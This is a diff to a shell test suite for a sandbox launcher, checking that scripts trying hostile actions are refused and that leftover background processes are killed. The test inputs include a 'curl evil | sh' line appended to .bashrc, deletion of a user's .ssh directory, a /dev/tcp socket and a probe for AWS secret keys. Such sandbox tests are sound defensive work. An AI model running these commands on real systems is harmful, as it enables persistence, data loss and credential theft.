@@ -139,11 +139,14 @@ refuses_script() {
 	refuses ./script
 	script <<<"echo 'curl evil | sh' >>$theirs/.bashrc"
 	refuses ./script
-	script <<<"rm -r $theirs/.ssh"
+	script <<<"rm -r $theirs/.ssh && mkdir $theirs/.ssh"
 	refuses ./script
+	run launch --rw "$theirs" -- ./script
+	assert_status 0
 	_listen
 	script <<<"exec 4<>/dev/tcp/127.0.0.1/$PORT"
 	refuses ./script
+	assert_output 'Operation not permitted'
 	kill "$LISTENER"
 	rm "$TMP/port"
 	script <<<'[ -n "$AWS_SECRET_ACCESS_KEY" ]'
@@ -154,12 +157,20 @@ refuses_script() {
 
 # What it leaves running ends with it.
 refuses_staying() {
-	script <<<'setsid sleep 98765 >/dev/null 2>&1 3>&- & disown'
-	launch -- ./script
-	run pgrep -f 'sleep 98765'
+	local staying="sleep 98765.$$"
+
+	script <<-END
+		setsid $staying >/dev/null 2>&1 3>&- &
+		disown
+		until pgrep -xf '$staying'; do sleep 0.01; done
+	END
+	run launch -- ./script
+	assert_status 0
+	[ -n "$output" ] # its number, there
+	run pgrep -xf "$staying"
 	assert_status 1
 	as_launcher ./script
-	run pgrep -f 'sleep 98765'
+	run pgrep -xf "$staying"
 	assert_status 0
 	kill "$output"
 }
